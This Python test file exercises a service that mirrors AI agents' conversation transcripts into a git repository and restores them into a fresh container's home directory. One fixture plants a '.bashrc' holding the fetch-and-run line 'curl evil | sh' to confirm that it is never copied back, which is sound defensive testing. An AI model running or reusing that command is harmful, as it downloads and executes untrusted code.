"""The agents' conversations survive a fresh container: copied into ~/projects/.agent-sessions,
mirrored like a project, and copied back into HOME after the restore."""

from __future__ import annotations

import logging
import shutil
import sqlite3
import subprocess
from pathlib import Path

import pytest

from services.sync.agent_sessions import REPO_NAME, AgentSessions
from services.sync.failures import OnceLog
from services.sync.gitrepo import git_env
from tests.helpers import wait_until
from tests.sync.conftest import REMOTE_ROOT, Rig
from tests.sync.test_restore import fresh_container

GLOBS = (".claude/projects/*/*.jsonl", ".local/share/opencode/opencode.db")
TRANSCRIPT = ".claude/projects/-home-app-projects/0b1c.jsonl"


def write(home: Path, rel: str, data: str) -> Path:
    path = home / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(data)
    return path


def sessions(home: Path, limit: int = 10 * 1024 * 1024) -> AgentSessions:
    return AgentSessions(
        home, home / "projects", GLOBS, git_env(home), limit, OnceLog(logging.getLogger("test"))
    )


def commits(repo: Path) -> int:
    listed = subprocess.run(["git", "-C", str(repo), "log", "--oneline"], capture_output=True, text=True)
    return len(listed.stdout.splitlines())


def test_only_the_conversations_are_copied_and_each_change_is_one_commit(tmp_path: Path) -> None:
    home = tmp_path / "home"
    write(home, TRANSCRIPT, '{"user": "remember ZEBRA"}\n')
    write(home, ".claude/.credentials.json", '{"token": "secret"}')  # never travels
    write(home, ".claude/settings.json", "{}")
    keeper = sessions(home)
    first = keeper.snapshot()
    repo = home / "projects" / REPO_NAME
    assert first.committed and first.files == 1
    assert sorted(p.relative_to(repo).as_posix() for p in repo.rglob("*") if ".git" not in p.parts) == [
        ".claude",
        ".claude/projects",
        ".claude/projects/-home-app-projects",
        TRANSCRIPT,
        ".gitignore",
        "README.md",
    ]
    assert not keeper.snapshot().committed  # nothing changed: no empty commit
    write(home, TRANSCRIPT, '{"user": "remember ZEBRA"}\n{"assistant": "ZEBRA noted"}\n')
    assert keeper.snapshot().committed and commits(repo) == 2
    # Removed here, kept there: a conversation is only ever added to the copy.
    (home / TRANSCRIPT).unlink()
    assert not keeper.snapshot().committed and (repo / TRANSCRIPT).exists()


def test_no_repository_before_any_agent_has_talked(tmp_path: Path) -> None:
    home = tmp_path / "home"
    assert not sessions(home).snapshot().committed
    assert not (home / "projects" / REPO_NAME).exists()


def test_a_file_over_the_limit_is_left_out_and_said(tmp_path: Path, caplog: object) -> None:
    home = tmp_path / "home"
    write(home, TRANSCRIPT, "x" * 2000)
    copied = sessions(home, limit=1000).snapshot()
    assert copied.skipped == [TRANSCRIPT] and not (home / "projects" / REPO_NAME / TRANSCRIPT).exists()


def test_a_live_sqlite_store_is_copied_consistently(tmp_path: Path) -> None:
    home = tmp_path / "home"
    db = home / ".local/share/opencode/opencode.db"
    db.parent.mkdir(parents=True)
    writer = sqlite3.connect(db)
    writer.execute("PRAGMA journal_mode=WAL")
    writer.execute("CREATE TABLE message (text TEXT)")
    writer.execute("INSERT INTO message VALUES ('remember ZEBRA')")
    writer.commit()  # in the WAL, not yet in opencode.db itself: a file copy would miss it
    assert b"ZEBRA" not in db.read_bytes()
    keeper = sessions(home)
    assert keeper.snapshot().committed
    copy = home / "projects" / REPO_NAME / ".local/share/opencode/opencode.db"
    with sqlite3.connect(copy) as reader:
        assert reader.execute("SELECT text FROM message").fetchall() == [("remember ZEBRA",)]
    assert not keeper.snapshot().committed  # same content: no new commit
    writer.execute("INSERT INTO message VALUES ('and ZEBU')")
    writer.commit()
    assert keeper.snapshot().committed
    writer.close()


def test_the_restore_adds_what_is_missing_and_nothing_else(tmp_path: Path) -> None:
    home = tmp_path / "home"
    repo = home / "projects" / REPO_NAME
    write(repo, TRANSCRIPT, "from the workspace\n")
    write(repo, ".claude/projects/-home-app-projects/newer.jsonl", "from the workspace\n")
    write(repo, ".bashrc", "curl evil | sh\n")  # not a conversation: never copied into HOME
    write(home, ".claude/projects/-home-app-projects/newer.jsonl", "this container's, newer\n")
    assert sessions(home).restore_home() == 1
    assert (home / TRANSCRIPT).read_text() == "from the workspace\n"
    assert (home / TRANSCRIPT).stat().st_mode & 0o777 == 0o600
    assert (
        home / ".claude/projects/-home-app-projects/newer.jsonl"
    ).read_text() == "this container's, newer\n"
    assert not (home / ".bashrc").exists()


def test_a_restored_conversation_appears_whole_and_never_replaces_one_made_meanwhile(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An agent started while the restore runs sees each conversation whole or not at all (CI once
    read a restored transcript empty), and one it wrote meanwhile is kept."""
    home = tmp_path / "home"
    repo = home / "projects" / REPO_NAME
    racing = ".claude/projects/-home-app-projects/racing.jsonl"
    write(repo, TRANSCRIPT, '{"user": "remember ZEBRA"}\n')
    write(repo, racing, "from the workspace\n")
    seen_while_copying: list[bool] = []
    real_copyfile = shutil.copyfile

    def copy_and_look(src: Path, dst: Path) -> object:
        result = real_copyfile(src, dst)
        seen_while_copying.append((home / src.relative_to(repo)).exists())
        if src.name == "racing.jsonl":
            write(home, racing, "the agent's own, written during the restore\n")
        return result

    monkeypatch.setattr(shutil, "copyfile", copy_and_look)
    assert sessions(home).restore_home() == 1
    assert seen_while_copying == [False, False]  # written in full before it has its name
    assert (home / TRANSCRIPT).read_text() == '{"user": "remember ZEBRA"}\n'
    assert (home / TRANSCRIPT).stat().st_mode & 0o777 == 0o600
    assert (home / racing).read_text() == "the agent's own, written during the restore\n"
    assert sorted(p.name for p in (home / TRANSCRIPT).parent.iterdir()) == ["0b1c.jsonl", "racing.jsonl"]


def test_conversations_come_back_in_a_fresh_container(rig: Rig) -> None:
    home = rig.stack.home
    write(home, TRANSCRIPT, '{"user": "remember ZEBRA"}\n')
    rig.start(session_globs=GLOBS, sessions_interval=0.2)
    wait_until(lambda: b"ZEBRA" in rig.remote(REPO_NAME).get(TRANSCRIPT, b""), timeout=20, what="mirrored")
    write(home, TRANSCRIPT, '{"user": "remember ZEBRA"}\n{"assistant": "noted"}\n')
    wait_until(lambda: b"noted" in rig.remote(REPO_NAME).get(TRANSCRIPT, b""), timeout=20, what="update")
    # The restore uses the bundle when there is one: wait for it, as an idle app would have it.
    wait_until(lambda: f"{REMOTE_ROOT}/{REPO_NAME}.bundle" in rig.workspace.files, timeout=20, what="bundle")
    fresh_container(rig)
    shutil.rmtree(home / ".claude")
    rig.projects.mkdir()
    rig.start(session_globs=GLOBS, sessions_interval=0.2)
    wait_until(lambda: (home / TRANSCRIPT).exists(), timeout=30, what="the conversation back in HOME")
    assert (home / TRANSCRIPT).read_text() == '{"user": "remember ZEBRA"}\n{"assistant": "noted"}\n'
